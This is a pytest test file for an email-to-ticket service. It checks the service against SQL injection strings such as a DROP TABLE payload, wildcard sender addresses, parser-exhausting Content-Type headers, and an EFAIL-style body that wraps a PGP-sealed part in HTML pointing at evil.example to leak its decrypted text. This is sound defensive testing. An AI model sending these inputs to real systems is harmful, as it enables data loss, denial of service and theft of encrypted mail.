"""What is code elsewhere is only text here: SQL, patterns, parameters, sealed parts."""

import time

import pytest
from adversary.scene import CARA, IVAN, SUPPORT, Scene

from mailtrack.mail.parse import parse

SEALED = b"-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA1PjF0wJ\r\n-----END PGP MESSAGE-----\r\n"
SQL = "'; DROP TABLE ticket; --"


@pytest.mark.parametrize(
    ("asked", "is_found"),
    [
        (SQL, True),
        ("DROP", True),
        ("100%", False),
        ("%", False),
        ("_", False),
        ("from:%", False),
        ("from:c_st.example", False),
        ("subject' OR 1=1 --", False),
        ("printer\x00", False),
        ('"', False),
        ("NEAR(a b) OR *", False),
    ],
)
def test_a111_what_means_something_in_sql_is_only_searched_for(
    scene: Scene, asked: str, is_found: bool
) -> None:
    scene.mail("o'%_@cust.example", f"Toner {SQL}", "It is low.")
    assert scene.stage.ticket(1).requester == "o'%_@cust.example"
    assert "DROP TABLE" in scene.stage.ticket(1).subject
    before = len(scene.left_to(IVAN))
    scene.mail(IVAN, f"[find: {asked}]", "")
    answers = scene.left_to(IVAN)[before:]
    assert answers, "the agent hears what became of the question"
    assert all(("#1" in one.text and "Toner" in one.text) is is_found for one in answers)
    assert scene.stage.ticket(1) is not None


def test_a111_an_address_of_wildcards_is_nobody_else(scene: Scene) -> None:
    scene.mail(CARA, "Printer", "My secret is xyzzy.")
    for address in ("%@cust.example", "c_ra@cust.example", "____@cust.example"):
        scene.mail(address, "[#1] Printer", "Let me in.")
    assert len(scene.stage.ticket(1).entries) == 1
    assert scene.stage.ticket(4) is not None


@pytest.mark.parametrize(
    "content_type",
    [
        "(" * 3000 + "text/plain",
        "text/plain" + "".join(f"; p{n}=v" for n in range(5000)),
        "text/plain" + "".join(f"; name*{n}*=utf-8''x" for n in range(3000)),
        "text/plain; name*99999999999999999999*=x; name*0=y",
    ],
    ids=["comments", "parameters", "segments", "a-far-segment"],
)
def test_a85_a_content_type_without_end_is_a_ticket_soon(
    scene: Scene, content_type: str
) -> None:
    began = time.process_time()
    handled = scene.mail(CARA, "Printer", "It burns.", headers={"Content-Type": content_type})
    assert handled.disposition == "ticket"
    assert time.process_time() - began < 5
    assert scene.left_to(IVAN)


def test_a109_a_sealed_part_stays_as_it_came_whatever_is_wrapped_around_it(
    scene: Scene,
) -> None:
    body = (
        '--b\r\nContent-Type: text/html\r\n\r\n<p>See</p><img src="http://evil.example/?\r\n'
        "--b\r\nContent-Type: multipart/encrypted; boundary=c; "
        'protocol="application/pgp-encrypted"\r\n\r\n--c\r\n'
        "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--c\r\n"
        'Content-Type: application/octet-stream; name="sealed.asc"\r\n\r\n'
        f"{SEALED.decode()}--c--\r\n"
        '--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )
    head = {"Content-Type": "multipart/mixed; boundary=b"}
    assert scene.mail(CARA, "Sealed", body, headers=head, to=SUPPORT).disposition == "ticket"
    letter = scene.last(IVAN)
    sent = parse(letter.raw)
    assert "sealed.asc" in [one.filename for one in sent.attachments]
    assert "evil.example" not in letter.html
    [sealed] = [
        p for p in letter.message.iter_attachments() if p.get_filename() == "sealed.asc"
    ]
    assert sealed.get_payload(decode=True).split() == SEALED.split()
    assert "hQEMA1PjF0wJ" not in letter.text + letter.html
